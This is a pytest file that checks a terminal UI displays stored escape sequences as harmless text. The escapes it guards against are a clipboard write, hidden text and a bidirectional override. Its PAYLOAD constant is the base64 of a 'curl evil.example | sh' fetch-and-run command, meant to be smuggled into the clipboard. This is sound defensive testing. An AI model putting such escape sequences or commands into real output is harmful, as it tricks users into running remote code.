"""Terminal escape injection: text a sensor or an agent stored is shown with its
control sequences as visible escapes, never passed to the terminal, by the TUI too:
the bytes the real ``vigil tui`` writes to a pseudo-terminal are read and searched
(the CLI's outputs are rows of the bad-input catalogue)."""

from __future__ import annotations

import fcntl
import os
import select
import sqlite3
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest

from tests.reliability.catalogue_bounds import HOSTILE
from tests.reliability.support import run_vigil

pytestmark = pytest.mark.slow

WAIT_S = 60.0  # safety net only
PAYLOAD = b"Y3VybCBldmlsLmV4YW1wbGUgfCBzaA"  # base64 of "curl evil.example | sh", in HOSTILE


def read_until(fd: int, wanted: bytes, seen: bytearray) -> None:
    """Read the terminal's bytes into ``seen`` until ``wanted`` is among them."""
    deadline = time.monotonic() + WAIT_S
    while wanted not in seen:
        if time.monotonic() > deadline:
            raise AssertionError(f"{wanted!r} never drawn; the screen got {bytes(seen[-2000:])!r}")
        ready, _, _ = select.select([fd], [], [], 0.2)
        if ready:
            try:
                seen += os.read(fd, 65536)
            except OSError:  # the other side closed
                return


def drain_until_exit(fd: int, proc: subprocess.Popen[bytes], seen: bytearray) -> None:
    """Keep reading (a full terminal buffer would block the app) until ``proc`` ends;
    killed past the safety net."""
    deadline = time.monotonic() + WAIT_S
    while proc.poll() is None and time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], 0.2)
        if ready:
            try:
                seen += os.read(fd, 65536)
            except OSError:
                break
    if proc.poll() is None:
        proc.kill()
    proc.wait(timeout=WAIT_S)


def test_the_tui_draws_stored_escape_sequences_as_text(home: Path) -> None:
    assert run_vigil(home, "task", "add", "placeholder", "-d", "placeholder").returncode == 0
    conn = sqlite3.connect(home / "data" / "vigil.db")
    with conn:  # as a sensor or an agent could have stored them
        conn.execute("UPDATE tasks SET subject = ?, description = ? WHERE id = 1", (HOSTILE, HOSTILE))
    conn.close()
    main, side = os.openpty()
    fcntl.ioctl(side, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 200, 0, 0))
    env = {k: v for k, v in os.environ.items() if not k.startswith("VIGIL_")}
    env.update(TERM="xterm-256color", COLUMNS="200", LINES="40")
    tui = subprocess.Popen(
        [sys.executable, "-m", "vigil", "--home", str(home), "tui", "--readonly"],
        stdin=side,
        stdout=side,
        stderr=side,
        env=env,
        start_new_session=True,
    )
    os.close(side)
    seen = bytearray()
    try:
        read_until(main, PAYLOAD, seen)  # the subject is on screen, as text
        os.write(main, b"\r")  # open the task: the description is drawn too
        read_until(main, b"description", seen)
    finally:
        os.write(main, b"\x11")  # ctrl+q
        drain_until_exit(main, tui, seen)
        os.close(main)
    screen = bytes(seen)
    assert b"\\x1b]52;c;" + PAYLOAD in screen  # shown as an escape
    assert b"\x1b]52" not in screen  # never sent: it would write the clipboard
    assert b"\x1b[8mhidden" not in screen  # nor SGR from the text
    assert "\u202e".encode() not in screen  # nor a bidirectional override
